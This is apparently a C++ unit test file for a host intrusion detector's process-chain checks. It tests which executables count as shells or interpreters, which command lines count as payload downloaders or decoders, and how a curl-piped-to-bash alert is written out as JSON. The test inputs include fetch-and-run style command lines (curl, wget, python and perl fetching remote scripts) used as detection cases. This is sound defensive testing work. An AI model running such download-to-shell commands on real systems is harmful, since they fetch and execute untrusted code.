// Units of the process-chain detections: which programs are shells or interpreters and which
// fetch or decode a payload (the live chains are the case tests/cases/agent/process-chains).

#include "mimamori/host/process_chain.h"

#include <gtest/gtest.h>

#include "mimamori/core/eve.h"

namespace mimamori::host {
namespace {

TEST(ProcessChain, ShellsAndInterpretersByExecutableName) {
  for (const char* exe : {"/usr/bin/dash", "/bin/bash", "/usr/bin/python3.11", "/usr/bin/perl",
                          "/usr/bin/zsh", "/usr/bin/busybox"})
    EXPECT_TRUE(is_shell_or_interpreter(exe)) << exe;
  for (const char* exe : {"/usr/bin/curl", "/usr/bin/shred", "/usr/bin/sha256sum", "/usr/bin/ls",
                          "/usr/bin/bashbug", ""})
    EXPECT_FALSE(is_shell_or_interpreter(exe)) << exe;
}

TEST(ProcessChain, DownloadersAndDecodersButNotTheirOrdinaryUses) {
  EXPECT_TRUE(is_downloader("/usr/bin/curl", "curl -s http://198.51.100.9/x.sh"));
  EXPECT_TRUE(is_downloader("/usr/bin/wget", "wget -qO- http://198.51.100.9/x"));
  EXPECT_TRUE(is_downloader("/usr/bin/base64", "base64 -d"));
  EXPECT_TRUE(
      is_downloader("/usr/bin/python3.11",
                    "python3 -c import urllib.request as u;print(u.urlopen('http://x').read())"));
  EXPECT_TRUE(is_downloader("/usr/bin/perl", "perl -e use LWP::Simple; print get('http://x')"));
  EXPECT_FALSE(is_downloader("/usr/bin/base64", "base64 backup.tar"));
  EXPECT_FALSE(is_downloader("/usr/bin/python3.11", "python3 -c print(1)"));
  EXPECT_FALSE(is_downloader("/usr/bin/python3.11", "python3 manage.py runserver http://x"));
  EXPECT_FALSE(is_downloader("/usr/bin/sort", "sort http://x"));
}

TEST(ProcessChain, AlertCarriesTheChain) {
  ChainFinding f;
  f.kind = "pipe_to_shell";
  f.parent = {10, 0, "root", "/usr/bin/bash", "bash"};
  f.source = ChainMember{11, 1000, "alice", "/usr/bin/curl", "curl http://x/i.sh"};
  f.siblings.push_back(*f.source);
  f.pipe_inode = 42;
  core::Event e = host_event(core::event_type::kProcess);
  add_chain(e, f);
  std::string json = core::to_eve(e);
  EXPECT_NE(json.find(R"("chain":{"kind":"pipe_to_shell","parent":{"pid":10,)"), std::string::npos)
      << json;
  EXPECT_NE(json.find(R"("source":{"pid":11,"uid":1000,"user":"alice","exe":"/usr/bin/curl")"),
            std::string::npos)
      << json;
  EXPECT_NE(json.find(R"("siblings":[{"pid":11,)"), std::string::npos) << json;
  EXPECT_NE(json.find(R"("pipe_inode":42)"), std::string::npos) << json;
  EXPECT_EQ(json.find(R"("file")"), std::string::npos) << json;  // no file in this chain
}

}  // namespace
}  // namespace mimamori::host
